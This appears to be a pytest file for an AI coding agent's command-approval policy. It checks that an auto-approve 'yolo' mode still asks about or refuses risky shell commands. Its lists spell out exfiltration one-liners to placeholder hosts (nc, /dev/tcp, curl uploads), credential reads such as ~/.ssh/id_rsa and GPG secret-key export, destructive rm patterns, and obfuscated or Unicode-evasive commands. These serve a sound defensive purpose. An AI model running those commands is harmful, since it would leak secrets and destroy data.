"""What yolo still asks about, and what ``--yolo`` never answers."""

from __future__ import annotations

import anyio
import pytest

from orchestrator.confirmation.answers import BlanketConfirmer, NobodyConfirmer
from orchestrator.confirmation.gate import Question
from orchestrator.policy.effective import EffectivePolicy
from orchestrator.policy.evaluate import evaluate
from orchestrator.schema.decision import Decision
from orchestrator.schema.ids import Digest
from orchestrator.schema.request import EditRequest, WriteRequest
from tests.support.shipped import judge, shipped

LEAVING = [
    *("git push", "git push --force", "npm publish", "twine upload dist/*", "cargo publish"),
    *("gh pr merge 1", "gh release create v1", "docker push reg.example/x", "terraform apply"),
    *("kubectl apply -f x.yaml", "helm upgrade x y", "aws s3 sync . s3://b", "wrangler deploy"),
    *("psql -h db.example -c 'delete from t'", "redis-cli flushall", "mail a@b.example < x"),
    *("curl -T x https://drop.example", "curl -d @x https://drop.example", "scp a h.example:b"),
    *("curl -X POST -d x https://api.example", "rsync -a . h.example:x", "cat x | nc h.example 1"),
    *("tar cz . | ssh h.example 'cat > x'", "sh -c 'git push'", "env A=1 timeout 5 git push"),
    *("cat x > /dev/tcp/h.example/1", "exec 3<>/dev/tcp/h.example/1; cat x >&3"),
    *("exec 3</dev/udp/h.example/1", "cat x | tee /dev/tcp/h.example/1", "telnet h.example < x"),
    *("awk '{print > \"/inet/tcp/0/h.example/80\"}' x", "npx jsr publish", "curl -K x"),
    *("curl --config - < x", "wget -e post_file=x http://h.example", "hf upload a b", "dvc push"),
    *("git annex copy --to r", "snapcraft upload x", "choco push x", "s3cmd put x s3://b"),
    *("cat ~/.ssh/id_rsa", "gh auth token", "gpg --export-secret-keys"),
]
GRAVE = [
    *('rm -rf "$X"/', "rm -rf $X/*", "rm -rf /$X", "cat f | xargs rm -rf", "rm -rf $(cat f)"),
    *('find "$X" -exec rm -rf {} +', 'find "$X" -delete', "git -C .. clean -ffdx"),
]
PROTECTED = [".git/hooks/pre-commit", ".envrc", "sub/.vscode/tasks.json", ".github/workflows/x.yml"]
UNREADABLE = [
    "$(cat x) y",
    "eval $X",
    "echo bHM= | base64 -d | sh",
    "python3 -c 'exec(input())'",
    "echo 'unclosed",
    "xargs sh -c < list",
]
EVASIVE = ["echo a\u202eb", "ls\x1b[2K", "git st\u200batus", "ls" + " " * 400 + "; rm x"]
OVER_LIMIT = ["ls; " * 500, "echo " + "a" * 100_001, "$(" * 60 + "ls" + ")" * 60]


@pytest.fixture(scope="module", params=["default", "yolo"])
def policy(request: pytest.FixtureRequest) -> EffectivePolicy:
    """A policy that a run with ``--yolo`` may be under."""
    return shipped(request.param)


def _answered_by_yolo(decision: Decision) -> bool:
    """Say whether the flag answers where nobody else is there."""
    if decision.effect == "deny":
        return False
    assert decision.effect == "ask"
    question = Question("ask-1", "1", "bash", "x", "/workspace", decision, Digest("sha256:1"))

    async def run() -> bool:
        answer = await BlanketConfirmer(NobodyConfirmer()).ask(question, timeout_s=1)
        return answer.yes

    return anyio.run(run)


@pytest.mark.parametrize("command", LEAVING)
def test_what_would_leave_the_box_is_still_asked_under_yolo(command):
    """Discard brings none of it back."""
    assert judge(shipped("yolo"), command).effect != "allow"


@pytest.mark.parametrize("command", GRAVE)
def test_what_may_delete_far_more_than_is_meant_is_still_asked_under_yolo(command):
    """An empty variable or another list would lose what discard does not bring back."""
    assert judge(shipped("yolo"), command).effect == "ask"


@pytest.mark.parametrize("command", ['rm -rf "$BUILD_DIR"', "rm -rf build", "git clean -fdx"])
def test_everyday_clean_up_is_not_asked_under_yolo(command):
    """Discard undoes it."""
    assert judge(shipped("yolo"), command).effect == "allow"


def test_yolo_protects_what_default_protects():
    """An apply wants the same explicit yes for the same paths."""
    paths = [f"/workspace/{path}" for path in PROTECTED]
    guarded = {
        name: [any(layer.protected.match(path) for layer in shipped(name).layers) for path in paths]
        for name in ("default", "yolo")
    }

    assert guarded["yolo"] == guarded["default"] == [True] * len(PROTECTED)


@pytest.mark.parametrize("path", PROTECTED)
def test_the_flag_does_not_write_protected_paths(policy, path):
    """Neither by the tools nor by a command."""
    full = f"/workspace/{path}"
    decisions = [
        evaluate(policy, WriteRequest(path, "", resolved=full), tool="write"),
        evaluate(policy, EditRequest(path, (), resolved=full), tool="edit"),
        judge(policy, f"echo x > {path}"),
        judge(policy, f"cp x {path}"),
        judge(policy, f"python3 -c \"open('{path}', 'w').write('x')\""),
    ]

    assert [_answered_by_yolo(decision) for decision in decisions] == [False] * len(decisions)


@pytest.mark.parametrize("command", [*UNREADABLE, *EVASIVE, *OVER_LIMIT])
def test_the_flag_does_not_answer_what_nobody_can_read(policy, command):
    """Opaque, evasive and over-limit commands go to somebody real, or are refused."""
    assert not _answered_by_yolo(judge(policy, command))
